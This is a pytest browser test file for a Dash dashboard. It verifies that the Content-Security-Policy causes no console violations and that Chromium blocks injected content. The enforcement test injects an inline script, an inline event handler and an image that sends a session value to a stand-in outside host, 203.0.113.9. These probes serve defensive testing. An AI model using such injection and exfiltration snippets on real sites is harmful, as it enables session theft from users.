"""The Content-Security-Policy in Chromium: every page renders under it with no violation in the
console, and the browser does enforce it (an injected inline script, an outside image and framing
by another page are refused)."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest
from selenium.webdriver.common.keys import Keys

from dashboard import ids
from dashboard.pages import reports

pytestmark = pytest.mark.browser

# every page of the app, with what shows it is drawn (graphs drawn, grids filled)
PAGES = [
    ("/?lang=zh", f"#{ids.OVERVIEW_MATRIX}"),
    ("/indicator/rd_intensity?lang=zh", f"#{ids.INDICATOR_SERIES} .js-plotly-plot .main-svg"),
    ("/region/anhui?lang=en", f"#{ids.REGION_BULLET} .js-plotly-plot .main-svg"),
    ("/map?indicator=rd_intensity&lang=zh", f"#{ids.MAP_CITIES} .js-plotly-plot .main-svg"),
    ("/assessment?lang=zh", f"#{ids.ASSESSMENT_CV_GRAPH} .js-plotly-plot .main-svg"),
    ("/upload?lang=zh", f"#{ids.UPLOAD_NOTE}"),
    ("/history?lang=zh", f"#{ids.HISTORY_IMPORTS} button"),
    ("/reports?lang=en", f"#{reports.BUTTONS['pdf']}"),
    ("/method?lang=zh", f"#{ids.METHOD_THRESHOLDS}"),
    ("/sources?lang=zh", f"#{ids.SOURCES_TABLE} .ag-row"),
    ("/nowhere?lang=en", f"#{ids.NOT_FOUND_TITLE}"),
]


def _csp_messages(logs: list[dict[str, Any]]) -> list[str]:
    return [e["message"] for e in logs if "Content Security Policy" in e["message"]]


def test_every_page_renders_under_the_policy_with_no_violation(
    dash_duo: Any, edit_app: Any
) -> None:
    dash_duo.start_server(edit_app)
    driver = dash_duo.driver
    # the login page first (anonymous), then every page as an editor
    driver.get(f"{dash_duo.server_url}/login?lang=en&next={quote('/upload?lang=zh')}")
    dash_duo.wait_for_element(f"#{ids.LOGIN_USER}").send_keys("erin")
    password = dash_duo.find_element(f"#{ids.LOGIN_PASSWORD}")
    password.send_keys("erin-password")
    password.send_keys(Keys.ENTER)
    dash_duo.wait_for_element(f"#{ids.UPLOAD_NOTE}", timeout=15)
    for path, ready in PAGES:
        driver.get(dash_duo.server_url + path)
        dash_duo.wait_for_element(ready, timeout=20)
        dash_duo.wait_for_element("h1", timeout=10)
        logs = dash_duo.get_logs()
        assert _csp_messages(logs) == [], path
        assert logs == [], path
    # the policy came with the page (the browser saw it, not only the test client)
    policy = driver.execute_script(
        "return fetch(location.href).then(r => r.headers.get('content-security-policy'))"
    )
    assert "frame-ancestors 'none'" in policy and "'unsafe-inline'" not in policy.split(";")[1]


def test_the_browser_enforces_the_policy(dash_duo: Any, edit_app: Any) -> None:
    dash_duo.start_server(edit_app)
    driver = dash_duo.driver
    driver.get(dash_duo.server_url + "/method?lang=en")
    dash_duo.wait_for_element(f"#{ids.METHOD_THRESHOLDS}", timeout=15)
    assert dash_duo.get_logs() == []
    # what an injection that got past the escaping would try: an inline script, an inline event
    # handler, and an image that carries data to another site
    driver.execute_script(
        """
        window.__injected = 0;
        const s = document.createElement('script');
        s.textContent = 'window.__injected = 1';
        document.body.appendChild(s);
        document.body.insertAdjacentHTML('beforeend',
            '<img id="probe" src="data:," onload="window.__injected = 2">');
        const leak = new Image();
        leak.src = 'http://203.0.113.9/leak.png?session=x';
        """
    )
    dash_duo.wait_for_element("#probe")
    logs = []
    for _ in range(20):
        logs += dash_duo.get_logs()
        dash_duo.reset_log_timestamp()
        if len(_csp_messages(logs)) >= 3:
            break
        driver.implicitly_wait(0.1)
    assert driver.execute_script("return window.__injected") == 0
    refused = " ".join(_csp_messages(logs))
    assert "inline script" in refused and "203.0.113.9" in refused
    # another page framing the dashboard: the browser shows its error page in the frame instead
    driver.get(f"data:text/html,<iframe id=f src='{dash_duo.server_url}/method'></iframe>")
    frame = dash_duo.wait_for_element("#f")
    driver.execute_script("return new Promise(r => setTimeout(r, 1500))")
    driver.switch_to.frame(frame)
    try:
        shown = driver.execute_script("return [location.href, document.body.innerText]")
    finally:
        driver.switch_to.default_content()
    assert shown[0].startswith("chrome-error:"), shown
    assert "How progress is assessed" not in shown[1]
